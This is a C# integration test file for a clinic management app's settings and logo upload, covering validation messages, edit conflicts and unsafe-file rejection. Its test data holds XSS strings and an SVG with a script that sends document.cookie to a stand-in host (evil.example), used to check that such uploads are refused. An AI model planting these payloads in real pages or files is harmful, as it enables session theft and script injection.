using System.Security.Claims;
using System.Text;
using Microsoft.EntityFrameworkCore;
using PtClinic.Application.Common.Results;
using PtClinic.Application.Features.Administration;
using PtClinic.Domain.Clinics;
using PtClinic.Domain.Staff;
using PtClinic.IntegrationTests.Features.Episodes;

namespace PtClinic.IntegrationTests.Features.Administration;

public sealed class ClinicSettingsTests(AppFixture app) : IntegrationTest(app)
{
    private TestClinic _clinic = default!;
    private ClaimsPrincipal _admin = default!;

    public override async ValueTask InitializeAsync()
    {
        await base.InitializeAsync();
        _clinic = await TestClinic.CreateAsync(App);
        _admin = await _clinic.AddStaffAsync("Sam Okafor", StaffRoles.Admin);
    }

    private static IReadOnlyList<OpeningDayInput> Week(Func<DayOfWeek, OpeningDayInput>? change = null) =>
    [
        .. Enum.GetValues<DayOfWeek>().Select(day => change?.Invoke(day) ?? (day is DayOfWeek.Saturday or DayOfWeek.Sunday
            ? new OpeningDayInput(day, false, null, null)
            : new OpeningDayInput(day, true, new TimeOnly(8, 0), new TimeOnly(18, 30)))),
    ];

    private async Task<UpdateClinicSettingsCommand> SettingsAsync() =>
        new((await App.SendAsync(_admin, new GetClinicSettingsQuery())).Ok().Version,
            " Northside Physiotherapy ", "2 Mill Lane\nLeeds LS1 1AA", "+44 113 496 0000", "Europe/Dublin", PaperSize.UsLetter, Week(),
            20, TwoFactorRequirement.Everyone);

    [Fact]
    public async Task An_admin_saves_the_settings_and_every_role_reads_name_phone_and_hours()
    {
        (await App.SendAsync(_admin, await SettingsAsync())).Ok();

        foreach (var reader in new[] { _clinic.Therapist, _clinic.Desk, _clinic.Manager })
        {
            var settings = (await App.SendAsync(reader, new GetClinicSettingsQuery())).Ok();
            settings.Name.ShouldBe("Northside Physiotherapy");
            settings.Address.ShouldBe("2 Mill Lane\nLeeds LS1 1AA");
            settings.Phone.ShouldBe("+44 113 496 0000");
            settings.TimeZone.ShouldBe("Europe/Dublin");
            settings.PaperSize.ShouldBe(PaperSize.UsLetter);
            settings.OpeningHours.Select(d => d.Day).ShouldBe(OpeningHours.Week);
            settings.OpeningHours[0].ShouldBe(new OpeningDayDto(DayOfWeek.Monday, true, new TimeOnly(8, 0), new TimeOnly(18, 30)));
            settings.OpeningHours[6].ShouldBe(new OpeningDayDto(DayOfWeek.Sunday, false, null, null));
            settings.LogoUploadedAt.ShouldBeNull();
            settings.IdleTimeoutMinutes.ShouldBe(20);
            settings.TwoFactorRequirement.ShouldBe(TwoFactorRequirement.Everyone);
        }

        (await App.ReadAsync(db => db.Database.SqlQueryRaw<string>("SELECT opening_hours::text AS \"Value\" FROM clinics").SingleAsync()))
            .ShouldStartWith("""[{"day": "Monday", "opens": "08:00", "closes": "18:30"}""");
    }

    [Fact]
    public async Task Markup_in_the_clinics_name_and_address_is_kept_as_the_text_it_is()
    {
        var settings = await SettingsAsync() with { Name = "<b>Northside</b> & Co", Address = "<img src=x onerror=alert(1)>\nLeeds" };

        (await App.SendAsync(_admin, settings)).Ok();

        var stored = (await App.SendAsync(_clinic.Desk, new GetClinicSettingsQuery())).Ok();
        stored.Name.ShouldBe("<b>Northside</b> & Co");
        stored.Address.ShouldBe("<img src=x onerror=alert(1)>\nLeeds");
    }

    [Fact]
    public async Task Settings_saved_over_someone_elses_save_are_a_conflict_and_theirs_stay()
    {
        var loaded = await SettingsAsync();
        (await App.SendAsync(_admin, loaded with { Phone = "+44 113 496 1111" })).Ok();

        var stale = await App.SendAsync(_admin, loaded with { Phone = "+44 113 496 2222" });

        stale.Failed(ErrorKind.Conflict);
        (await App.SendAsync(_admin, new GetClinicSettingsQuery())).Ok().Phone.ShouldBe("+44 113 496 1111");
    }

    public static TheoryData<string, string, string> BadSettings() => new()
    {
        { "unknown time zone", "TimeZone", "\"Mars/Olympus_Mons\" is not a time zone we know. Choose one from the list, such as Europe/London." },
        { "Windows time zone", "TimeZone", "\"GMT Standard Time\" is not a time zone we know. Choose one from the list, such as Europe/London." },
        { "no time zone", "TimeZone", "Choose the clinic's time zone." },
        { "closes before opens", "OpeningHours[2].Closes", "On Tuesday the clinic must close after it opens." },
        { "open without hours", "OpeningHours[1].Opens", "Enter the time the clinic opens on Monday." },
        { "a day missing", "OpeningHours", "Give the opening hours of every day of the week, once each." },
        { "no name", "Name", "Enter the clinic's name." },
        { "name too long", "Name", "The clinic's name can be at most 120 characters; this one has 121." },
        { "address too long", "Address", "The address can be at most 300 characters; this one has 301." },
        { "NUL in address", "Address", "Address: there is an invisible character in it (a NUL, often pasted from another program) that cannot be saved; delete it and try again." },
        { "NUL in phone", "Phone", "Phone: there is an invisible character in it (a NUL, often pasted from another program) that cannot be saved; delete it and try again." },
        { "escape in phone", "Phone", "The phone number contains an invisible control or text-direction character (often pasted from another program); retype it." },
        { "no paper size", "PaperSize", "Choose the paper size for handouts." },
        { "idle timeout too short", "IdleTimeoutMinutes", "Choose between 5 and 60 minutes before an unattended page signs out." },
        { "idle timeout too long", "IdleTimeoutMinutes", "Choose between 5 and 60 minutes before an unattended page signs out." },
        { "no idle timeout", "IdleTimeoutMinutes", "Enter how many minutes an unattended page stays signed in." },
        { "unknown two-factor rule", "TwoFactorRequirement", "Choose who must use an authenticator app: no one, admins and managers, or everyone." },
    };

    [Theory]
    [MemberData(nameof(BadSettings))]
    public async Task Bad_settings_get_a_sentence_on_their_field_and_nothing_is_saved(string bad, string field, string message)
    {
        var good = await SettingsAsync();
        var command = bad switch
        {
            "unknown time zone" => good with { TimeZone = "Mars/Olympus_Mons" },
            "Windows time zone" => good with { TimeZone = "GMT Standard Time" },
            "no time zone" => good with { TimeZone = " " },
            // The week starts on Sunday in DayOfWeek; the command lists the days in the order given.
            "closes before opens" => good with { OpeningHours = Week(d => d == DayOfWeek.Tuesday ? new(d, true, new TimeOnly(18, 0), new TimeOnly(9, 0)) : null!) },
            "open without hours" => good with { OpeningHours = Week(d => d == DayOfWeek.Monday ? new(d, true, null, null) : null!) },
            "a day missing" => good with { OpeningHours = [.. Week().Where(d => d.Day != DayOfWeek.Thursday)] },
            "no name" => good with { Name = "" },
            "name too long" => good with { Name = new string('x', Clinic.NameMaxLength + 1) },
            "address too long" => good with { Address = new string('x', Clinic.AddressMaxLength + 1) },
            "NUL in address" => good with { Address = "2 Mill Lane\0" },
            "NUL in phone" => good with { Phone = "0113\0" },
            "escape in phone" => good with { Phone = "0113\u0007" },
            "no paper size" => good with { PaperSize = null },
            "idle timeout too short" => good with { IdleTimeoutMinutes = 4 },
            "idle timeout too long" => good with { IdleTimeoutMinutes = 61 },
            "no idle timeout" => good with { IdleTimeoutMinutes = null },
            "unknown two-factor rule" => good with { TwoFactorRequirement = (TwoFactorRequirement)7 },
            _ => throw new ArgumentOutOfRangeException(nameof(bad)),
        };

        var result = await App.SendAsync(_admin, command);

        result.Failed(ErrorKind.Validation).For(field).ShouldBe(message);
        var stored = (await App.SendAsync(_admin, new GetClinicSettingsQuery())).Ok();
        stored.Name.ShouldBe("Northside Physio");
        stored.TimeZone.ShouldBe("Europe/London");
        stored.OpeningHours.ShouldAllBe(d => !d.IsOpen);
        stored.IdleTimeoutMinutes.ShouldBe(15);
        stored.TwoFactorRequirement.ShouldBe(TwoFactorRequirement.AdminsAndManagers);
    }

    [Fact]
    public async Task A_PNG_logo_is_stored_in_the_database_and_read_back_as_a_PNG()
    {
        var png = AdministrationAccessTests.Png();

        (await App.SendAsync(_admin, new UploadClinicLogoCommand(png))).Ok();

        var logo = (await App.SendAsync(_clinic.Therapist, new GetClinicLogoQuery())).Ok();
        logo.Content.ShouldBe(png);
        logo.ContentType.ShouldBe("image/png");
        (await App.SendAsync(_clinic.Desk, new GetClinicSettingsQuery())).Ok().LogoUploadedAt.ShouldBe(logo.UploadedAt);
    }

    [Fact]
    public async Task A_new_logo_replaces_the_old_one_and_removing_it_leaves_none()
    {
        (await App.SendAsync(_admin, new UploadClinicLogoCommand(AdministrationAccessTests.Png()))).Ok();
        (await App.SendAsync(_admin, new UploadClinicLogoCommand(Svg("<circle cx=\"5\" cy=\"5\" r=\"4\"/>")))).Ok();

        (await App.SendAsync(_admin, new GetClinicLogoQuery())).Ok().ContentType.ShouldBe("image/svg+xml");
        (await App.ReadAsync(db => db.ClinicLogos.IgnoreQueryFilters().CountAsync())).ShouldBe(1);

        (await App.SendAsync(_admin, new RemoveClinicLogoCommand())).Ok();
        (await App.SendAsync(_admin, new GetClinicLogoQuery())).Failed(ErrorKind.NotFound);
    }

    public static TheoryData<string, string> BadLogos() => new()
    {
        { "exe renamed to png", LogoContent.NotAnImage },
        { "svg with script", "The SVG logo contains a <script> element, which could run code. Save the logo without it." },
        { "svg with onload", "The SVG logo has an event handler (onload), which could run code. Save the logo without it." },
        { "svg with outside image", "The SVG logo refers to something outside the file (a link, an image or a style sheet). Save it with everything embedded." },
        { "2 MB and 1 byte", "The logo must be at most 2 MB (2,048 KB); this file is 2,049 KB. Save it smaller and try again." },
        { "empty", "Choose an image file for the logo." },
    };

    [Theory]
    [MemberData(nameof(BadLogos))]
    public async Task A_logo_that_is_not_a_safe_image_is_refused_saying_why_and_the_old_one_stays(string bad, string message)
    {
        (await App.SendAsync(_admin, new UploadClinicLogoCommand(AdministrationAccessTests.Png()))).Ok();
        var content = bad switch
        {
            "exe renamed to png" => Exe(),
            "svg with script" => Svg("<script>fetch('https://evil.example/?c=' + document.cookie)</script>"),
            "svg with onload" => Svg("<rect width=\"1\" height=\"1\" onload=\"alert(1)\"/>"),
            "svg with outside image" => Svg("<image href=\"https://tracker.example/pixel.png\" width=\"1\" height=\"1\"/>"),
            "2 MB and 1 byte" => Oversized(),
            "empty" => [],
            _ => throw new ArgumentOutOfRangeException(nameof(bad)),
        };

        var result = await App.SendAsync(_admin, new UploadClinicLogoCommand(content));

        result.Failed(ErrorKind.Validation).For("Logo").ShouldBe(message);
        (await App.SendAsync(_admin, new GetClinicLogoQuery())).Ok().ContentType.ShouldBe("image/png");
    }

    private static byte[] Svg(string body) => Encoding.UTF8.GetBytes($"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\">{body}</svg>");

    /// <summary>A Windows program saved as "logo.png": MZ header, then the DOS stub.</summary>
    private static byte[] Exe()
    {
        var exe = new byte[4096];
        "MZ"u8.CopyTo(exe);
        "This program cannot be run in DOS mode."u8.CopyTo(exe.AsSpan(0x4E));
        return exe;
    }

    private static byte[] Oversized()
    {
        var png = new byte[LogoContent.MaxBytes + 1];
        AdministrationAccessTests.Png().CopyTo(png, 0);
        return png;
    }
}
